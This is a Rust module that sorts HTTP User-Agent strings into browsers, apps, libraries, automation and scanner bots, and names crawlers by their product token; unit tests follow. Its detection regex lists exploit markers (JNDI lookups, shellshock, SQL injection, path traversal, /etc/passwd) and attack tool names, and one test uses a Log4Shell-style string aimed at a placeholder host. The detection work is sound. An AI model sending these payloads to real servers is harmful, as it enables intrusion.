//! Unknown bots: the generic heuristic, and naming a crawler after its
//! product token.

use regex::bytes::{Regex, RegexBuilder};

use super::{Category, Crawler, Origin};

/// Tokens that browsers carry for compatibility; never a crawler's name.
const COMPAT: &[&str] = &[
    "mozilla",
    "compatible",
    "applewebkit",
    "khtml",
    "like",
    "gecko",
    "chrome",
    "chromium",
    "safari",
    "version",
    "mobile",
    "firefox",
    "edg",
    "edge",
    "opr",
    "opera",
    "msie",
    "trident",
    "windows",
    "linux",
    "android",
    "x11",
    "macintosh",
    "iphone",
    "ipad",
    "u",
    "wow64",
    "win64",
    "x64",
    "intel",
    "ubuntu",
    "cpu",
    "build",
];

#[derive(Debug)]
pub(crate) struct Heuristic {
    attack: Regex,
    payload: Regex,
    fake_msie: Regex,
    library: Regex,
    app: Regex,
    automation: Regex,
    url: Regex,
    words: Regex,
    browser_words: Regex,
    browser: Regex,
    botword: Regex,
}

fn re(pattern: &str) -> Regex {
    RegexBuilder::new(pattern)
        .case_insensitive(true)
        .build()
        .expect("heuristic patterns compile")
}

impl Heuristic {
    pub(crate) fn new() -> Self {
        Heuristic {
            // Exploit payloads in the UA, and attack tools that name themselves.
            attack: re(
                r"\$\{|jndi:|\(\) \{|<script|union(\s|\+|%20)+select|\.\./|/etc/passwd|havij|sqlmap|nikto|w3af|acunetix|netsparker|dirbuster|gobuster|wpscan|openvas|nessus|qualys|zmeu|morfeus|^hello,? world$|^linux gnu \(cow\)$",
            ),
            payload: re(r"\$\{|jndi:|\(\) \{|<script|union(\s|\+|%20)+select|\.\./|/etc/passwd"),
            fake_msie: re(r"^mozilla/5\.0 \(compatible; msie [1-8]\."),
            // Native apps' HTTP stacks: people using an app, not crawlers.
            app: re(
                r"^dalvik/|cfnetwork/|darwin/|^fban|fbav/|instagram|^android/|okhttp/.*android|^spotify/|^outlook-|^microsoft office/",
            ),
            library: re(
                r"^(curl|wget|grequests|[a-z-]*http[a-z-]*client|python-requests|python-urllib|python-httpx|python/|aiohttp|httpx|go-http-client|go |java/|apache-httpclient|okhttp|axios|node-fetch|undici|node/|libwww-perl|lwp::|php/|guzzlehttp|ruby|faraday|scrapy|httpie|reqwest|colly|dart/|restsharp|postmanruntime|insomnia|winhttp|mozilla/\S+ \(windows nt [\d.]+; windows powershell|powershell|jakarta|feign|http\.rb|mechanize|libcurl|typhoeus|excon|rest-client|unirest|http_request|zend_http|wordpress/|cpp-httplib|fasthttp|hackney|finch|httpclient)",
            ),
            automation: re(
                r"headlesschrome|phantomjs|puppeteer|playwright|selenium|webdriver|lighthouse|slimerjs|electron/.*\bbot\b",
            ),
            url: re(r"https?://|\+[a-z0-9-]+\.[a-z]|www\.[a-z0-9-]+\.[a-z]|@[a-z0-9-]+\.[a-z]{2,}"),
            words: re(
                r"bot|crawl|spider|spyder|fetch|scrap|slurp|archiv|indexer|harvest|scan|checker|monitor|validator|preview|probe",
            ),
            browser_words: re(r"[a-z](bot|crawler|spider|fetcher|scraper)/\d"),
            // A real browser: Mozilla/1-5 or Opera with a platform comment.
            browser: re(
                r"^(mozilla/[1-5]\.\d+|opera/\d+\.\d+) \((compatible; msie|windows|macintosh|x11|linux|iphone|ipad|ipod|android|mobile|tablet|bb10|blackberry|playbook|kaios|cros|freebsd|openbsd|symbian|smart-?tv|playstation|nintendo|xbox)",
            ),
            botword: re(
                r"bot|crawl|spider|spyder|fetch|scrap|archiv|index|harvest|scan|check|monitor",
            ),
        }
    }

    /// A crawler with no User-Agent at all.
    pub(crate) fn unnamed(&self) -> Crawler {
        crawler(
            "(no user agent)".to_string(),
            Category::Other,
            Origin::Heuristic,
        )
    }

    /// A crawler recognised by a dataset pattern: named after the matched
    /// text when it reads as a name, else after the UA's product token.
    pub(crate) fn named_from_match(
        &self,
        ua: &[u8],
        matched: &[u8],
        category: Category,
    ) -> Crawler {
        let text = String::from_utf8_lossy(matched);
        let text = text.trim_matches(|c: char| !c.is_ascii_alphanumeric());
        let name_like = text.len() >= 2
            && text.chars().any(|c| c.is_ascii_alphabetic())
            && text
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | ' ' | '!'));
        let name = if name_like {
            text.to_string()
        } else {
            self.name_of(ua)
        };
        crawler(name, category, Origin::Dataset)
    }

    /// The generic heuristic. `None` means a browser or a native app: a
    /// human visitor. Anything else that sends a User-Agent is a bot: an
    /// exploit payload or attack tool (scanner), an HTTP library, a
    /// headless browser, a browser-like UA that names a bot or a URL, and
    /// whatever does not look like a browser at all (a bare `Mozilla/5.0`,
    /// a misspelt `Mozila/5.0`, an impossible `Mozilla/37.0`, `Hello, World`).
    pub(crate) fn classify(&self, ua: &[u8]) -> Option<Crawler> {
        let category = if self.attack.is_match(ua) {
            Category::Scanner
        } else if self.library.is_match(ua) {
            Category::Library
        } else if self.automation.is_match(ua) {
            Category::Automation
        } else if self.browser.is_match(ua) {
            // A browser-like UA is a bot only if it says so plainly: a URL,
            // or a "SomethingBot/1.0" product token (so a "CUBOT" phone is
            // not a crawler).
            if self.url.is_match(ua) || self.browser_words.is_match(ua) || self.impossible(ua) {
                Category::Other
            } else {
                return None;
            }
        } else if self.app.is_match(ua) && !self.url.is_match(ua) && !self.words.is_match(ua) {
            return None;
        } else {
            Category::Other
        };
        let name = if category == Category::Scanner && self.payload.is_match(ua) {
            "(exploit payload in User-Agent)".to_string()
        } else {
            self.name_of(ua)
        };
        Some(crawler(name, category, Origin::Heuristic))
    }

    /// A browser-like UA that no browser sends: MSIE 8 or older never said
    /// `Mozilla/5.0`, and a real UA's parentheses balance.
    fn impossible(&self, ua: &[u8]) -> bool {
        let open = ua.iter().filter(|&&b| b == b'(').count();
        let close = ua.iter().filter(|&&b| b == b')').count();
        open != close || self.fake_msie.is_match(ua)
    }

    /// The crawler's first product token: the first UA part (a product
    /// `name/version`, or an item of a parenthesised comment) that reads as a
    /// bot; else the first product outside comments that is not a browser
    /// compatibility token (`Mozilla`, `AppleWebKit`, ...); else the first
    /// `name/version` item inside a comment; else the first word.
    pub(crate) fn name_of(&self, ua: &[u8]) -> String {
        let ua = String::from_utf8_lossy(ua);
        // (text, inside a comment)
        let mut parts: Vec<(&str, bool)> = Vec::new();
        let mut depth = 0usize;
        let mut start = 0usize;
        for (i, c) in ua.char_indices() {
            let split = match c {
                '(' | ')' => true,
                ';' | ',' => depth > 0,
                c if c.is_whitespace() => true,
                _ => false,
            };
            if split {
                parts.push((&ua[start..i], depth > 0));
                start = i + c.len_utf8();
                match c {
                    '(' => depth += 1,
                    ')' => depth = depth.saturating_sub(1),
                    _ => {}
                }
            }
        }
        parts.push((&ua[start..], depth > 0));
        let token = |part: &str| -> Option<String> {
            let part = part.trim().trim_start_matches('+');
            let lower = part.to_ascii_lowercase();
            if part.is_empty()
                || lower.starts_with("http")
                || lower.starts_with("www.")
                || part.contains('@')
            {
                return None;
            }
            let name = part.split('/').next().unwrap_or("").trim();
            let name = name.trim_matches(|c: char| !c.is_ascii_alphanumeric());
            (!name.is_empty()).then(|| name.to_string())
        };
        let is_compat = |t: &str| COMPAT.contains(&t.to_ascii_lowercase().as_str());
        // (token, inside a comment, had a version)
        let candidates: Vec<(String, bool, bool)> = parts
            .iter()
            .filter_map(|(p, inside)| token(p).map(|t| (t, *inside, p.contains('/'))))
            .collect();
        candidates
            .iter()
            .find(|(t, _, _)| self.botword.is_match(t.as_bytes()))
            .or_else(|| {
                candidates
                    .iter()
                    .find(|(t, inside, _)| !inside && !is_compat(t))
            })
            .or_else(|| {
                candidates
                    .iter()
                    .find(|(t, inside, slash)| *inside && *slash && !is_compat(t))
            })
            .or(candidates.first())
            .map_or_else(|| "(unnamed bot)".to_string(), |(t, _, _)| t.clone())
    }
}

fn crawler(name: String, category: Category, origin: Origin) -> Crawler {
    let token = crate::robots::product_token(&name);
    let tokens = if token.is_empty() {
        vec![]
    } else {
        vec![token.to_string()]
    };
    let meta_names = tokens.iter().map(|t| t.to_ascii_lowercase()).collect();
    Crawler {
        name,
        operator: None,
        category,
        tokens,
        meta_names,
        engine: None,
        ip_ranges: Vec::new(),
        obeys_global: true,
        origin,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_after_the_product_token() {
        let h = Heuristic::new();
        let name = |ua: &str| h.name_of(ua.as_bytes());
        assert_eq!(
            name("Mozilla/5.0 (compatible; SomeBot/1.2; +http://some.example/bot)"),
            "SomeBot"
        );
        assert_eq!(name("python-requests/2.31.0"), "python-requests");
        assert_eq!(name("MetaURI API/2.0 +metauri.com"), "MetaURI");
        assert_eq!(
            name("Mozilla/5.0 (X11; Linux x86_64) Frobnicator/3.1"),
            "Frobnicator"
        );
        assert_eq!(name("Scanbot"), "Scanbot");
        assert_eq!(name("Mozilla/5.0 zgrab/0.x"), "zgrab");
        assert_eq!(name("(https://example.com)"), "(unnamed bot)");
    }

    #[test]
    fn generic_heuristic() {
        let h = Heuristic::new();
        let cat = |ua: &str| h.classify(ua.as_bytes()).map(|c| (c.name, c.category));
        assert_eq!(cat("curl/8.4.0"), Some(("curl".into(), Category::Library)));
        assert_eq!(
            cat("Go-http-client/1.1"),
            Some(("Go-http-client".into(), Category::Library))
        );
        assert_eq!(
            cat(
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0 Safari/537.36"
            ),
            Some(("HeadlessChrome".into(), Category::Automation))
        );
        assert_eq!(
            cat("Mozilla/5.0 (compatible; NewCrawler/1.0; +https://new.example/bot)")
                .unwrap()
                .0,
            "NewCrawler"
        );
        assert_eq!(
            cat("SuperFetcher 2000"),
            Some(("SuperFetcher".into(), Category::Other))
        );
        assert_eq!(cat("Mozila/5.0").unwrap().1, Category::Other);
        assert_eq!(cat("Mozilla/5.0").unwrap().1, Category::Other);
        assert_eq!(
            cat("Mozilla/37.0.2 (compatible; MSIE 6.0; Windows NT 5.1; SV1)")
                .unwrap()
                .1,
            Category::Other
        );
        assert_eq!(
            cat("Hello, World"),
            Some(("Hello".into(), Category::Scanner))
        );
        assert_eq!(
            cat("${jndi:ldap://x.example:1389/a}"),
            Some(("(exploit payload in User-Agent)".into(), Category::Scanner))
        );
        assert_eq!(
            cat("Mozilla/5.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)")
                .unwrap()
                .1,
            Category::Other
        );
        assert_eq!(cat("Mozilla/5.0 (Windows; U; Windows NT 6.0;en-US; rv:1.9.2) Gecko/20100115 Firefox/3.6)").unwrap().1, Category::Other);
        assert_eq!(
            cat("Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; SV1) Havij")
                .unwrap()
                .1,
            Category::Scanner
        );
        assert_eq!(
            cat("Google-HTTP-Java-Client/1.17.0-rc (gzip)").unwrap().1,
            Category::Library
        );
        // Native apps and browsers are people, including a phone whose model contains "bot".
        assert_eq!(
            cat("Dalvik/2.1.0 (Linux; U; Android 5.1.1; SM-J320FN Build/LMY47V)"),
            None
        );
        assert_eq!(cat("MyApp/3.2 CFNetwork/1408.0.4 Darwin/22.5.0"), None);
        assert_eq!(
            cat("Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)"),
            None
        );
        assert_eq!(
            cat(
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"
            ),
            None
        );
        assert_eq!(
            cat(
                "Mozilla/5.0 (Linux; Android 9; CUBOT X19) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0 Mobile Safari/537.36"
            ),
            None
        );
        assert_eq!(
            cat(
                "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1"
            ),
            None
        );
    }
}
